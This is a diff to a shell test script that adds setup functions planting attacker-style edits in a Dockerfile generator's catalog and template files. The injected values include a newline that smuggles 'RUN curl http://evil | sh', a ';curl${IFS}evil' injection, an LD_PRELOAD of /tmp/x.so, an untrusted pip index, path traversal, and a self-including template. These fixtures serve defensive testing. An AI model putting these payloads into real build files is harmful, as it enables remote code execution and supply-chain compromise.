@@ -21,6 +21,27 @@ listing() {  # a stable description of every entry under $1
 }
 
 # --- setups: a tree a user or an attacker left behind ----------------------
+replace() {  # replace FILE OLD NEW: literal, once; a missing OLD fails the case
+  python3 - "$@" <<'PY' || echo "setup: '$2' not found in $1" >&2
+import sys
+path, old, new = sys.argv[1:4]
+text = open(path).read()
+if old not in text: sys.exit(1)
+open(path, "w").write(text.replace(old, new, 1))
+PY
+}
+# Catalog strings that reach Dockerfiles (the checkout's catalog, changed in the copy).
+catalog_apt_newline() { replace "$data/recipes/install/cuda.toml" 'runtime = ["libcudart11.0",' 'runtime = ["libcudart11.0\nRUN curl http://evil | sh",'; }
+catalog_apt_option() { replace "$data/recipes/install/cuda.toml" 'runtime = ["libcudart11.0",' 'runtime = ["--allow-unauthenticated",'; }
+catalog_env_blank() { replace "$data/recipes/install/cuda.toml" '"NVCC_PREPEND_FLAGS=-ccbin=cuda-g++"' '"NVCC_PREPEND_FLAGS=-ccbin=cuda-g++ LD_PRELOAD=/tmp/x.so"'; }
+catalog_os_image() { replace "$data/recipes/catalog/bases.toml" 'image = "debian:12"' 'image = "debian:12\nUSER root"'; }
+catalog_os_name() { replace "$data/recipes/catalog/bases.toml" 'name = "debian12"' 'name = "../debian12"'; }
+catalog_pip_option() { replace "$data/recipes/install/pytorch.toml" 'packages = ["torch=={pytorch}"]' 'packages = ["torch=={pytorch} --extra-index-url=http://evil"]'; }
+catalog_index_shell() { replace "$data/recipes/install/pytorch.toml" '/whl/cu{cuda_nodot}"' '/whl/cu{cuda_nodot};curl${IFS}evil"'; }
+# The checkout's Dockerfile template, including a partial that includes itself.
+include_loop() { echo '{{> loop}}' >>"$data/templates/Dockerfile.mustache"; }
+include_ping() { echo '{{> ping}}' >>"$data/templates/Dockerfile.mustache"; }
+
 user_project() {  # a user's project, with a kiln.json of its own, in -o DIR
   mkdir -p "$out/myproj/src"
   echo '{"mine": true}' >"$out/myproj/kiln.json"
